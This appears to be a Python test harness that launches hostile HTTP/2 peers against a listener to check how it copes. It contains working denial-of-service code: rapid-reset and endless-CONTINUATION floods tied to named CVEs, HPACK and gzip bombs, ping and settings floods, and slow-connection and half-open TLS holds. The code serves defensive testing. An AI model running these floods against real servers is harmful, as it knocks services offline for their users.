"""Peers that mean harm, in a process of their own: `python -m tests.edge.hostile KIND ADDRESS`.

It says "under way" once its first blow is struck, goes on until its input ends, and then says in a line of JSON how
many connections it opened, how many of them the listener ended, and with which error codes of HTTP/2.
"""

import contextlib
import gzip
import json
import selectors
import socket
import ssl
import struct
import sys
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from tests.conformance.calls import CALL, STREAM_CHECK_NUMBERS, call_fields, message, numbers
from tests.conformance.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    SETTINGS,
    block,
    frame,
    literal,
    rst_stream,
    settings,
)

BEGINNING = PREFACE + settings()
STREAM_MAX = 6_001
IDLE_COUNT, SLOW_COUNT, UNREAD_COUNT, HANDSHAKE_COUNT = 2_000, 200, 10, 300
SLOW_STEP_S = 1.0
CONNECT_TIMEOUT_S, SEND_TIMEOUT_S = 10.0, 1.0
SILENCE_S = 0.2
ANSWER_TIMEOUT_S = 30.0
MESSAGE_SIZE_MAX = 1_049_600

stopping = threading.Event()


@dataclass
class Report:
    """What came of it."""

    opened: int = 0
    ended: int = 0
    codes: Counter[int] = field(default_factory=Counter)

    def judge(self, peer: socket.socket, said: bytearray, *, wait_s: float, for_goaway: bool = False) -> None:
        """Read what the listener still says, and note whether it ended the connection; silence: it did not.

        `for_goaway`: a GOAWAY is all that is awaited.
        """
        peer.settimeout(wait_s)
        try:
            while not (for_goaway and [*codes_of(bytes(said))]):
                part = peer.recv(2**20)
                if not part:
                    self.ended += 1
                    break
                said += part
        except (TimeoutError, BlockingIOError):
            pass
        except OSError:
            self.ended += 1
        self.codes.update(codes_of(bytes(said)))


def codes_of(said: bytes) -> Iterator[int]:
    """The error codes of the GOAWAYs in it."""
    start = 0
    while start + 17 <= len(said):
        if said[start + 3] == GOAWAY:
            yield int.from_bytes(said[start + 13 : start + 17], "big")
        start += 9 + int.from_bytes(said[start : start + 3], "big")


def connected(address: str, *, narrow: bool = False) -> socket.socket:
    host, port = address.rsplit(":", 1)
    peer = socket.socket()
    if narrow:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    peer.settimeout(CONNECT_TIMEOUT_S)
    peer.connect((host, int(port)))
    peer.settimeout(SEND_TIMEOUT_S)
    return peer


# --- floods: as much as the listener takes, and anew when it has ended the connection -----------------------------


def streams() -> range:
    return range(1, STREAM_MAX, 2)


def rapid_reset() -> bytes:
    """CVE-2023-44487: calls that are cancelled as soon as they are made."""
    question = numbers(*[79_161_234_567] * 10)
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, END_STREAM, stream, question) + rst_stream(stream)
        for stream in streams()
    )


def continuation(filling: bytes) -> bytes:
    """CVE-2024-27316: a header block that does not end."""
    return frame(HEADERS, 0, 1, CALL) + frame(CONTINUATION, 0, 1, filling) * 20_000


def hpack_bomb() -> bytes:
    """One long field is put into the table of HPACK, and then named by a byte each time."""
    size = 4_000 - 127  # as RFC 7541 section 5.1 writes it, after a first byte that is full
    put = b"\x40\x01a\x7f" + bytes([size & 0x7F | 0x80, size >> 7]) + b"x" * 4_000
    bombs = [frame(HEADERS, END_HEADERS, 1, CALL + put) + frame(DATA, END_STREAM, 1)]
    bombs += [frame(HEADERS, END_HEADERS | END_STREAM, stream, CALL + b"\xbe" * 15_000) for stream in range(3, 61, 2)]
    return b"".join(bombs)


def gzip_bombs() -> bytes:
    """Streams of messages, a kilobyte each, that inflate to what a message may have, or to a byte more."""
    fields = block(call_fields(STREAM_CHECK_NUMBERS, ("grpc-encoding", "gzip")))
    parts = []
    for stream in range(1, 201, 2):
        filling = b"\x7a" + b"\xf8\xff\x3f" + bytes(2**20 - 8)  # an unknown field of a megabyte
        bomb = message(gzip.compress(filling if stream % 4 == 1 else bytes(MESSAGE_SIZE_MAX + 1)), compressed=1)
        parts.append(frame(HEADERS, END_HEADERS, stream, fields) + frame(DATA, END_STREAM, stream, bomb * 10))
    return b"".join(parts)


FLOODS: dict[str, Callable[[], bytes]] = {
    "rapid reset": rapid_reset,
    "pings": lambda: frame(PING, 0, 0, bytes(8)) * 20_000,
    "settings": lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 20_000,
    "endless continuation": lambda: continuation(literal(b"x", b"a" * 126)),
    "endless empty continuation": lambda: continuation(b""),
    "hpack bombs": hpack_bomb,
    "gzip bombs": gzip_bombs,
}
UNENDED = {"gzip bombs"}
"""Floods that cost their own connection its turns and nobody else anything, so that it may stay."""


def flood(kind: str, address: str, report: Report, awaited: str) -> None:
    """Flood until told to stop, but for one connection at least: a busy machine may not have ended any by then.

    `awaited` is the listener's answer to a flood: "end", "goaway", or "silence".
    """
    wait_s = SILENCE_S if awaited == "silence" else ANSWER_TIMEOUT_S
    blow = memoryview(BEGINNING + FLOODS[kind]())

    def enough() -> bool:
        return stopping.is_set() and (report.opened > 0 or kind in UNENDED)

    while not enough():
        with contextlib.suppress(OSError), connected(address) as peer:
            said = bytearray()
            with contextlib.suppress(OSError):
                strike(peer, blow, said, enough)
            if enough():
                break  # before it could be ended
            report.opened += 1
            report.judge(peer, said, wait_s=wait_s, for_goaway=awaited == "goaway")
        under_way.set()


def strike(peer: socket.socket, blow: memoryview, said: bytearray, enough: Callable[[], bool]) -> None:
    """Send all of it while reading: the listeners read no more from a peer that takes nothing."""
    peer.setblocking(False)
    with selectors.DefaultSelector() as selector:
        selector.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE)
        while blow and not enough():
            ready = selector.select(SEND_TIMEOUT_S)
            if not ready:
                return
            for _, events in ready:
                if events & selectors.EVENT_WRITE:
                    blow = blow[peer.send(blow[:65_536]) :]
                    under_way.set()
                if events & selectors.EVENT_READ:
                    part = peer.recv(65_536)
                    if not part:
                        return
                    said += part


# --- holds: many connections that do little, and stay -------------------------------------------------------------

LONG = numbers(*[79_161_234_567] * 100)
WHOLE_CALL = BEGINNING + frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, END_STREAM, 1, LONG)
IN_THE_BODY = len(BEGINNING) + 9 + len(CALL) + 9 + 7


def nothing(_peer: socket.socket) -> bytes:
    return b""


def trickle(start: int) -> Callable[[socket.socket], bytes]:
    """All of a call up to there, and then a byte a step."""

    def begin(peer: socket.socket) -> bytes:
        peer.sendall(WHOLE_CALL[:start])
        return WHOLE_CALL[start:]

    return begin


def read_nothing(peer: socket.socket) -> bytes:
    """Ask for much and take none of it: neither does HTTP/2 have room, nor the socket."""
    question = numbers(*[79_161_234_567] * 10_000)
    parts = [question[i : i + 16_384] for i in range(0, len(question), 16_384)]
    peer.sendall(PREFACE + settings((INITIAL_WINDOW_SIZE, 0)))
    with contextlib.suppress(TimeoutError):
        for stream in range(1, 64, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, stream, CALL))
            for part in parts:
                peer.sendall(frame(DATA, END_STREAM if part is parts[-1] else 0, stream, part))
    return b""


def half_a_handshake(peer: socket.socket) -> bytes:
    """A ClientHello, and no more."""
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(
            ssl.MemoryBIO(), outgoing, server_hostname="localhost"
        ).do_handshake()
    peer.sendall(outgoing.read())
    return b""


HOLDS: dict[str, tuple[int, Callable[[socket.socket], bytes]]] = {
    "idle connections": (IDLE_COUNT, nothing),
    "slow prefaces": (SLOW_COUNT, trickle(3)),
    "slow headers": (SLOW_COUNT, trickle(len(BEGINNING) + 20)),
    "slow bodies": (SLOW_COUNT, trickle(IN_THE_BODY)),
    "unread answers": (UNREAD_COUNT, read_nothing),
    "half-open handshakes": (HANDSHAKE_COUNT, half_a_handshake),
}


def hold(kind: str, address: str, report: Report) -> None:
    count, begin = HOLDS[kind]
    held = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            peer = connected(address, narrow=kind == "unread answers")
            report.opened += 1
            held.append((peer, begin(peer)))
    under_way.set()
    step = 0
    while not stopping.wait(SLOW_STEP_S):
        for peer, rest in held:
            with contextlib.suppress(OSError):
                peer.sendall(rest[step : step + 1])
        step += 1
    for peer, _ in held:
        report.judge(peer, bytearray(), wait_s=0.0)


under_way = threading.Event()


def main() -> None:
    """Strike until the input ends."""
    kind, address, awaited = sys.argv[1:]
    report = Report()
    arguments = (kind, address, report)
    striking = (
        threading.Thread(target=flood, args=(*arguments, awaited))
        if kind in FLOODS
        else threading.Thread(target=hold, args=arguments)
    )
    striking.start()
    under_way.wait()
    print("under way", flush=True)
    sys.stdin.read()
    stopping.set()
    striking.join()
    print(json.dumps({"opened": report.opened, "ended": report.ended, "codes": report.codes}), flush=True)


if __name__ == "__main__":
    main()
